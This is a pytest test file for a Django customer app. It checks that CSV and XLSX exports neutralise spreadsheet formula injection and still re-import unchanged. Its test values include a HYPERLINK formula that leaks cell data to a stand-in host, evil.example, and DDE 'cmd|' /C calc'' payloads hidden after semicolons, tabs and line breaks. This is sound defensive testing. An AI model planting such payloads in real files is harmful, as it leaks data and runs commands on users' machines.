"""Exports a person opens never hold a live formula, and still import back unchanged; a
superuser's export says each customer's account (issue 13 #4, issue 14 #9).

The customers are sent through the API, as the attack came: a name that is a HYPERLINK
formula, a phone number starting with +, values starting with -, @ and an apostrophe."""

import csv
import datetime
import io
import json
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from campaigns.models import Campaign
from customers.import_file import read_import_file
from customers.models import Customer, UndoState
from customers.resources import ADMIN_EXPORT_FIELDS, ADMIN_EXPORT_HEADERS, EXPORT_FIELDS
from customers.spreadsheet import (
    OTHER_ACCOUNT,
    neutralised,
    restored,
    restored_values,
    workbook_text,
)
from customers.workbook import text_workbook
from tests.commands.conftest import snapshot
from tests.conftest import PASSWORD, POINTS, USER_ID
from tests.factories import make_campaign, make_customer

IMPORT_URL = "/admin/customers/customer/import-file/"
EXPORT_URL = "/admin/customers/customer/export/"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Field -> a value a spreadsheet would run, or that only looks like the neutralised form.
ATTACK = {
    "code": "F1",
    "first_name": HYPERLINK,
    "last_name": "-2+3",
    "phone": "+44 20 7946 0000",
    "street1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street2": "'=already quoted",
    "city": "''+two apostrophes",
    "state": "'plain",
    "custom_field": "O'Brien",
}
PLAIN = {"code": "F2", "first_name": "Ann", "phone": "555-5555"}
FORMULA_START = tuple("=+-@\t\r")
# Session, user, whether the user sees one account (the list's columns) and the list (its
# account joined): as many for 60 customers as for 1.
QUERIES_OF_AN_EXPORT = 6


@pytest.fixture
def attack(post_batch, account):
    """The customers, created through the API (customers_batch, pipe-delimited)."""
    headers = tuple(ATTACK)
    out = io.StringIO()
    writer = csv.writer(out, delimiter="|", lineterminator="\n")
    writer.writerow(ATTACK.values())
    writer.writerow([PLAIN.get(name, "") for name in headers])
    response = post_batch(headers=headers, data=out.getvalue(), output="JSON")
    assert json.loads(response.content)["batch"]["customers"]["new"] == 2
    assert Customer.objects.get(code="F1").first_name == HYPERLINK
    return account


@pytest.fixture
def boss(client, django_user_model, campaigns):
    client.force_login(django_user_model.objects.create_superuser("boss", password="pw"))
    return client


def admin_export(client, file_format: str) -> bytes:
    """The admin's export of the customer list: every column ticked, as the form starts."""
    response = client.post(
        EXPORT_URL,
        {
            "format": {"csv": "0", "xlsx": "1"}[file_format],
            "resource": "0",
            **{f"customerexportresource_{name}": "on" for name in ADMIN_EXPORT_FIELDS},
        },
    )
    assert response.status_code == 200, response.getvalue()[:500]
    return response.getvalue()


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows()]


def admin_import(client, account, content: bytes, file_format: str):
    """Preview, then confirm, the file in the admin; returns the preview's response."""
    form = {
        "account": account.pk,
        "campaign": Campaign.objects.get(account=account, campaign_id=POINTS).pk,
        "overwrite_duplicates": "update",
        "import_file": SimpleUploadedFile(f"customers.{file_format}", content),
    }
    previewed = client.post(IMPORT_URL, form)
    if "pending" in (previewed.context or {}):
        client.post(IMPORT_URL, {"pending": previewed.context["pending"]})
    return previewed


def neutral(value: str) -> bool:
    return not value.startswith(FORMULA_START)


def test_the_admins_csv_export_starts_no_cell_with_a_formula_character(boss, attack):
    rows = csv_rows(admin_export(boss, "csv"))

    assert rows[0] == list(ADMIN_EXPORT_HEADERS)
    assert all(neutral(cell) for row in rows for cell in row)
    f1 = dict(zip(ADMIN_EXPORT_FIELDS, rows[1], strict=True))
    assert f1["first_name"] == "'" + HYPERLINK
    assert f1["phone"] == "'+44 20 7946 0000"
    assert (f1["last_name"], f1["street1"]) == ("'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0")
    assert (f1["street2"], f1["city"]) == ("''=already quoted", "'''+two apostrophes")
    assert (f1["state"], f1["custom_field"]) == ("'plain", "O'Brien")


def test_the_admins_xlsx_export_holds_every_value_as_stored_in_a_text_cell(boss, attack):
    cells = xlsx_cells(admin_export(boss, "xlsx"))

    assert {cell.data_type for row in cells for cell in row if cell.value is not None} == {"s"}
    values = [["" if cell.value is None else cell.value for cell in row] for row in cells]
    # A text cell needs no apostrophe: +44 reads as +44 (a shop owner's report); only a
    # value already starting with apostrophes and a formula character gets one more.
    csv_values = csv_rows(admin_export(boss, "csv"))
    assert [[restored(value) for value in row] for row in csv_values] == [
        [restored(value) for value in row] for row in values
    ]
    assert [value for row in values for value in row if value.startswith("'")] == [
        "''=already quoted",
        "'''+two apostrophes",
        "'plain",
    ]
    f1 = dict(zip(ADMIN_EXPORT_FIELDS, values[1], strict=True))
    assert (f1["first_name"], f1["phone"]) == (HYPERLINK, "+44 20 7946 0000")
    # Excel's mark for a value typed after an apostrophe: it stays text when edited.
    quoted = {cell.value for row in cells[1:] for cell in row if cell.quotePrefix}
    assert quoted == {HYPERLINK, "-2+3", "+44 20 7946 0000", "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admins_export_imports_back_unchanged_through_the_admin(boss, attack, file_format):
    before = snapshot(attack)

    admin_import(boss, attack, admin_export(boss, file_format), file_format)

    state = UndoState.objects.get(source=UndoState.Source.ADMIN)
    assert (state.updated, state.failed) == (2, 0)
    assert snapshot(attack) == before


def command_export(*arguments: str) -> str:
    out = io.StringIO()
    call_command(
        "export_customers", "--account=greatwidgets", *arguments, stdout=out, stderr=io.StringIO()
    )
    return out.getvalue()


def test_the_command_line_export_neutralises_formulas_unless_raw(boss, attack):
    neutralised_rows = csv_rows(command_export("--format=csv").encode())
    raw_rows = csv_rows(command_export("--format=csv", "--raw").encode())

    assert all(neutral(cell) for row in neutralised_rows for cell in row)
    assert neutralised_rows[1][EXPORT_FIELDS.index("first_name")] == "'" + HYPERLINK
    assert raw_rows[1][EXPORT_FIELDS.index("first_name")] == HYPERLINK
    assert raw_rows[1][EXPORT_FIELDS.index("street2")] == "'=already quoted"
    # The admin's values are the command's, after the account column.
    assert [row[1:] for row in csv_rows(admin_export(boss, "csv"))[1:]] == neutralised_rows[1:]


@pytest.mark.parametrize("raw", [False, True])
def test_import_customers_takes_the_command_line_export_back_unchanged(attack, import_file, raw):
    before = snapshot(attack)
    option = ("--raw",) if raw else ()

    ran = import_file(command_export("--format=csv", *option), *option)

    assert ran.stdout.splitlines()[0] == (
        "Imported into greatwidgets: 0 new, 2 updated, 0 ignored, 0 failed."
    )
    assert snapshot(attack) == before


def test_the_api_takes_the_raw_command_line_export_back_unchanged(attack, post_batch):
    before = snapshot(attack)
    header, data = command_export("--format=psv", "--raw").split("\n", 1)

    response = post_batch(
        headers=header.split("|"), data=data, overwrite_duplicates="update", output="JSON"
    )

    assert json.loads(response.content)["batch"]["customers"]["updated"] == 2
    assert snapshot(attack) == before


# Strings only, no database: make test's SQLite pass runs it alone.
@pytest.mark.once
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\nab ;,"), max_size=8) | st.text(max_size=8))
def test_every_value_round_trips_and_no_neutralised_value_starts_a_formula(value):
    assert restored(neutralised(value)) == value
    # Nor any piece after a comma, a semicolon, a line break or a TAB, where a spreadsheet
    # may start a cell (PIECE_STARTS).
    assert all(neutral(piece) for piece in re.split(r"(?<=[,;\r\n\t])", neutralised(value)))
    if neutralised(value) == value:
        assert restored(value) == value
    assert restored(workbook_text(value)) == value


@pytest.mark.parametrize(
    "value",
    ["", "a", "'", "''", "=", "'=", "''=", "+44", "-", "@x", "\tx", "\rx", "'a", "a=b", "'''-"],
)
def test_restoring_takes_back_exactly_what_neutralising_added(value):
    assert restored(neutralised(value)) == value
    assert neutral(neutralised(value))


def test_a_superusers_export_names_each_customers_account(boss, account, other_account, run_import):
    run_import(("code", "first_name"), "MINE|Ann")
    make_campaign(account=other_account, campaign_id=POINTS)
    run_import(("code", "first_name"), "THEIRS|Bob", into=other_account)

    rows = csv_rows(admin_export(boss, "csv"))

    code, slug = ADMIN_EXPORT_FIELDS.index("code"), ADMIN_EXPORT_FIELDS.index("account")
    assert sorted((row[slug], row[code]) for row in rows[1:]) == [
        ("greatwidgets", "MINE"),
        ("otherwidgets", "THEIRS"),
    ]


def test_a_file_of_several_accounts_is_refused_by_the_admin_import(
    boss, account, other_account, run_import
):
    run_import(("code", "first_name"), "MINE|Ann")
    make_campaign(account=other_account, campaign_id=POINTS)
    run_import(("code", "first_name"), "THEIRS|Bob", into=other_account)
    exported = admin_export(boss, "csv")
    before = snapshot(account)
    theirs = next(
        number
        for number, row in enumerate(csv_rows(exported), start=1)
        if row[ADMIN_EXPORT_FIELDS.index("code")] == "THEIRS"
    )

    response = admin_import(boss, account, exported, "csv")

    expected = OTHER_ACCOUNT.format(row=theirs, value="otherwidgets", account="greatwidgets")
    assert response.context["form"].non_field_errors() == [expected]
    assert snapshot(account) == before
    assert not UndoState.objects.filter(source=UndoState.Source.ADMIN).exists()


def test_an_account_column_naming_the_owner_id_imports(boss, account):
    content = f"account,code,first_name\n{account.owner_id},N1,Nina\n,N2,Noor\n".encode()

    admin_import(boss, account, content, "csv")

    assert list(Customer.objects.order_by("code").values_list("code", "first_name")) == [
        ("N1", "Nina"),
        ("N2", "Noor"),
    ]


def test_the_account_column_costs_no_query_per_customer(
    boss, account, other_account, run_import, django_assert_max_num_queries
):
    run_import(("code",), "\n".join(f"A{n}" for n in range(30)))
    make_campaign(account=other_account, campaign_id=POINTS)
    run_import(("code",), "\n".join(f"B{n}" for n in range(30)), into=other_account)

    with django_assert_max_num_queries(QUERIES_OF_AN_EXPORT):
        rows = csv_rows(admin_export(boss, "csv"))

    assert len(rows) == 61


# Characters a workbook can hold: XML holds no control character, surrogate or U+FFFE/FFFF
# (unassigned, Cn; the rules refuse control characters in customers' values anyway).
cell_text = st.text(
    st.sampled_from("'=+-@ab é,\"") | st.characters(exclude_categories=("Cc", "Cs", "Cn")),
    max_size=8,
)


# A workbook made and read in memory, no database: make test's SQLite pass runs it alone.
@pytest.mark.once
@given(st.lists(cell_text, max_size=4))
def test_any_values_in_an_exported_workbook_are_read_back_by_the_admin_import_as_they_were(
    values,
):
    # The last cell is not blank: a row's blank cells at its end are not kept, as in a sheet.
    row = [*values, "last"]
    headers = [f"custom_field_{n}" for n in range(1, len(row) + 1)]

    read = read_import_file(text_workbook(headers, [row]))

    # The data keeps each row on its row's line: the header's line is empty.
    (read_row,) = [line for line in csv.reader(io.StringIO(read.data)) if line]
    assert restored_values(read_row) == row


def test_a_csv_export_saved_again_as_xlsx_by_a_spreadsheet_imports_back_unchanged(boss, attack):
    # LibreOffice keeps the CSV's formula apostrophe in the cell when it saves the file as
    # XLSX: a shop owner's re-import stored '+44 ... in every phone number.
    before = snapshot(attack)
    book = openpyxl.Workbook()
    for row in csv_rows(admin_export(boss, "csv")):
        book.active.append(row)  # no value starts with "=", which openpyxl makes a formula
    out = io.BytesIO()
    book.save(out)

    admin_import(boss, attack, out.getvalue(), "xlsx")

    assert snapshot(attack) == before


def test_a_piece_after_a_semicolon_that_starts_a_formula_is_neutralised_in_the_csv(
    boss, post_batch, account
):
    # Fifth red team: Excel in a ";" locale split "Ann;=cmd|..." at the semicolon into a
    # live formula cell; the apostrophe was only ever put at the value's start.
    post_batch(("code", "first_name"), "SEMI1\tAnn;=cmd|' /C calc'!A0", delimiter="tab")
    assert Customer.objects.get(code="SEMI1").first_name == "Ann;=cmd|' /C calc'!A0"
    before = snapshot(account)

    rows = csv_rows(admin_export(boss, "csv"))
    f1 = dict(zip(ADMIN_EXPORT_FIELDS, rows[1], strict=True))

    assert f1["first_name"] == "Ann;'=cmd|' /C calc'!A0"
    admin_import(boss, account, admin_export(boss, "csv"), "csv")
    assert snapshot(account) == before


# Ninth red team: a line break or a TAB inside a value, then a formula. Excel, where the
# list separator is ";", reads a quote that does not start a value as plain text, so the
# line break inside a quoted value of a comma file ends the row, and the formula after it
# starts the next; a file split on TABs starts a cell after the TAB.
AFTER_A_BREAK = {
    "code": "NL3",
    "first_name": "Anna\n=cmd|' /C calc'!A0;",
    "last_name": "Tom\t=HYPERLINK(1)",
    "street1": "a\r\n@SUM(1)",
    # Tenth red team: a spreadsheet splitting a semicolon file on commas.
    "city": "y,=2*3,z",
}


def post_batch_call(client, params: dict):
    """A call of the API as the demo account's user."""
    credentials = {"user_id": USER_ID, "user_password": PASSWORD, "account_id": "greatwidgets"}
    return client.post("/api", {**credentials, **params})


def cells_as_spreadsheets_split_them(content: bytes) -> list[str]:
    """Every cell of `content` as a spreadsheet that splits a line on ",", ";" or TABs
    reads it (csv.reader, whose quotes work as Excel's, for each)."""
    text = content.decode("utf-8-sig")
    return [
        cell
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


@pytest.fixture
def broken_values(post_batch, account):
    headers = tuple(AFTER_A_BREAK)
    out = io.StringIO()
    csv.writer(out, delimiter="|", lineterminator="\n").writerow(AFTER_A_BREAK.values())
    response = post_batch(headers=headers, data=out.getvalue(), output="JSON")
    assert json.loads(response.content)["batch"]["customers"]["new"] == 1
    return account


def test_a_formula_after_a_line_break_or_a_tab_in_a_value_is_neutralised_in_the_csv_export(
    boss, broken_values
):
    cells = cells_as_spreadsheets_split_them(admin_export(boss, "csv"))

    assert any(cell.startswith("'=cmd") for cell in cells)
    assert all(neutral(cell.lstrip('"')) for cell in cells)


def test_the_csv_export_with_line_breaks_imports_back_unchanged(boss, broken_values):
    before = snapshot(broken_values)

    admin_import(boss, broken_values, admin_export(boss, "csv"), "csv")

    assert snapshot(broken_values) == before


def test_a_formula_after_a_line_break_in_a_failed_line_is_neutralised(client, post_batch):
    out = io.StringIO()
    values = {**AFTER_A_BREAK, "email": "bad"}
    csv.writer(out, delimiter="|", lineterminator="\n").writerow(values.values())
    response = post_batch(headers=tuple(values), data=out.getvalue(), output="JSON")
    undo_state = json.loads(response.content)["batch"]["undo_state"]

    params = {"type": "customers_batch_failed_lines", "undo_state": undo_state}
    content = b"".join(post_batch_call(client, params).streaming_content)

    cells = cells_as_spreadsheets_split_them(content)
    assert any(cell.startswith("'=cmd") for cell in cells)
    assert all(neutral(cell.lstrip('"')) for cell in cells)


def test_an_escaped_formula_character_at_a_texts_start_gets_the_quote_prefix_too(
    post_batch, boss, account
):
    # Eleventh red team (not seen in Excel): Excel shows _x003D_ as "=", so the text
    # "_x003D_HYPERLINK(...)" reads as a formula once its cell is edited there.
    escaped = "_x003D_HYPERLINK(1)"
    response = post_batch(headers=("code", "first_name"), data=f"E1|{escaped}\nE2|_x0041_n")
    assert Customer.objects.get(code="E1").first_name == escaped, response.content

    cells = xlsx_cells(admin_export(boss, "xlsx"))

    quoted = {cell.value for row in cells[1:] for cell in row if cell.quotePrefix}
    assert quoted == {escaped}
    before = snapshot(account)
    admin_import(boss, account, admin_export(boss, "xlsx"), "xlsx")
    assert snapshot(account) == before


def test_the_xlsx_export_writes_dates_as_date_cells_that_import_back_unchanged(boss, account):
    from customers.file_headers import column_label

    for code, date in (("D1", "1970-07-14"), ("D2", "1900-03-01"), ("D3", "1899-12-31")):
        make_customer(account=account, code=code, custom_date=datetime.date.fromisoformat(date))
    make_customer(account=account, code="D4")
    before = snapshot(account)

    cells = xlsx_cells(admin_export(boss, "xlsx"))

    column = [cell.value for cell in cells[0]].index(column_label("custom_date"))
    dates = {row[1].value: row[column] for row in cells[1:]}
    assert dates["D1"].is_date and dates["D1"].value == datetime.datetime(1970, 7, 14)
    assert dates["D1"].number_format == "yyyy-mm-dd"
    assert dates["D2"].is_date and dates["D2"].value == datetime.datetime(1900, 3, 1)
    # Before 1900-03-01 Excel's serial numbers are a day off: the date stays a text cell.
    assert (dates["D3"].data_type, dates["D3"].value) == ("s", "1899-12-31")
    assert dates["D4"].value is None
    # Every other value is still a text cell.
    assert {
        cell.data_type
        for row in cells
        for n, cell in enumerate(row)
        if n != column and cell.value is not None
    } == {"s"}

    previewed = admin_import(boss, account, admin_export(boss, "xlsx"), "xlsx")

    assert previewed.context["preview"].failed == 0
    assert snapshot(account) == before


def test_a_number_after_a_comma_is_no_whole_number_to_keep_as_text():
    # "3,05" in a note or a credit written with a decimal comma is no value a spreadsheet
    # reads as a number to change: only a whole value of digits gets the apostrophe.
    assert [
        neutralised(value) for value in ("3,05", "0632323232", "a;0042", "4000123412341234")
    ] == [
        "3,05",
        "'0632323232",
        "a;0042",
        "'4000123412341234",
    ]
    assert restored("'0632323232") == "0632323232"
    assert restored("3,'05") == "3,'05"
